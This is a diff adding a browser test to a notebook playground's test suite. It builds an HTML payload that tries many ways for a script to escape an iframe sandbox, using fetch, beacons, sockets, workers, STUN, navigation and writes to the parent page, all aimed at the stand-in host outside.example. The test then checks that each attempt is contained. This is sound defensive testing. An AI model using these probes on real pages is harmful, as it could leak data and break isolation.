@@ -3,6 +3,8 @@
 import base64
 import hashlib
 import json
+import re
+import time
 from contextlib import ExitStack
 from pathlib import Path
 
@@ -81,6 +83,66 @@ def test_what_code_displays_reaches_neither_the_page_nor_the_network(tmp_path: P
                 page.go("http://a-name-that-is-looked-up.example")
     assert "a-name-that-is-looked-up.example" in log.read_text()
     assert "outside.example" not in log.read_text()
+
+
+OUTSIDE = "outside.example"
+# Each way by which a script may leave its frame. `done` gets a colour when most were tried.
+WAYS_OUT = f"""
+<link rel=dns-prefetch href=//prefetch.{OUTSIDE}><link rel=preconnect href=//connect.{OUTSIDE}>
+<link rel=stylesheet href=//style.{OUTSIDE}>
+<link rel=icon href=//icon.{OUTSIDE}><link rel=manifest href=//manifest.{OUTSIDE}><img src=//picture.{OUTSIDE}>
+<script src=//script.{OUTSIDE}></script>
+<video src=//video.{OUTSIDE}></video><form action=//form.{OUTSIDE} id=form></form><a href=//link.{OUTSIDE} id=link>x</a>
+<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["https://rules.{OUTSIDE}/"]}}]}}</script>
+<style>@import url(//import.{OUTSIDE});
+@font-face {{ font-family: f; src: url(//font.{OUTSIDE}) }}
+body {{ font-family: f; background: url(//background.{OUTSIDE}) }}</style>
+<p id=done>waits</p>
+<script>
+const tries = [
+  () => fetch("//fetch.{OUTSIDE}"), () => navigator.sendBeacon("//beacon.{OUTSIDE}"), () => new WebSocket("wss://socket.{OUTSIDE}"),
+  () => new EventSource("//events.{OUTSIDE}"), () => new WebTransport("https://transport.{OUTSIDE}"),
+  () => window.open("//window.{OUTSIDE}"),
+  () => new Worker("//worker.{OUTSIDE}"), () => new Worker(URL.createObjectURL(new Blob(["importScripts('//blob.{OUTSIDE}'); " +
+    "fetch('//inner.{OUTSIDE}')"]))),
+  () => import("//module.{OUTSIDE}"), () => {{ top.location = "//top.{OUTSIDE}"; }},
+  () => {{ parent.taken = 1; }}, () => parent.document.title = "taken", () => localStorage.getItem("x"),
+  () => {{ const one = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:stun.{OUTSIDE}" }}] }});
+    one.createDataChannel("x"); return one.createOffer().then((offer) => one.setLocalDescription(offer)); }},
+];
+Promise.allSettled(tries.map(async (one) => one())).then(() => setTimeout(() => {{
+  document.getElementById("done").style.color = "rgb(1, 2, 3)";
+  setTimeout(() => {{  // the first of these ends the document
+    document.body.append(Object.assign(document.createElement("iframe"), {{ src: "//frame.{OUTSIDE}" }}));
+    form.submit(); link.click(); location = "//navigate.{OUTSIDE}";
+  }}, 3000);
+}}, 2000));
+</script>
+"""
+
+
+@needs_chromium
+@pytest.mark.long
+def test_scripts_that_a_person_lets_run_reach_nothing_of_the_page(tmp_path: Path) -> None:
+    """Scripts of an output run in the playground only if a person asks for it, and then reach neither its page nor its key."""
+    log = tmp_path / "network.json"
+    with ExitStack() as stack:
+        server = stack.enter_context(Server("--port", "0", "--api-key", KEY))
+        browser = stack.enter_context(Browser(tmp_path, f"--log-net-log={log}"))
+        with opened(browser, server) as playground:
+            page = playground.page
+            playground.run(f"from IPython.display import HTML\nHTML({WAYS_OUT!r})")
+            assert page.evaluate("[...document.querySelectorAll('iframe')].map((one) => one.sandbox.value)") == [""]
+            page.click(".output .note button")
+            while page.styles_in_frame("#done", "color") != ["rgb(1, 2, 3)"]:  # pytest's timeout ends a test that hangs
+                time.sleep(0.2)
+            time.sleep(6)  # then it tries to go elsewhere
+            frames = page.evaluate("[...document.querySelectorAll('iframe')].map((one) => [one.sandbox.value, one.contentDocument])")
+            assert frames == [["allow-scripts", None]]
+            assert page.evaluate("[document.title, typeof taken]") == ["aca-sessions playground", "undefined"]
+            assert "42" in playground.run("6 * 7")
+    # What Chromium looks up before it refuses to open it, and WebRTC, which it does not refuse: hence the question.
+    assert {*re.findall(rf"(\w+)[.]{OUTSIDE}", log.read_text())} <= {"frame", "link", "navigate", "form", "top", "stun"}
 
 
 MARKDOWN = f"""# title <script>{STEALS}</script>
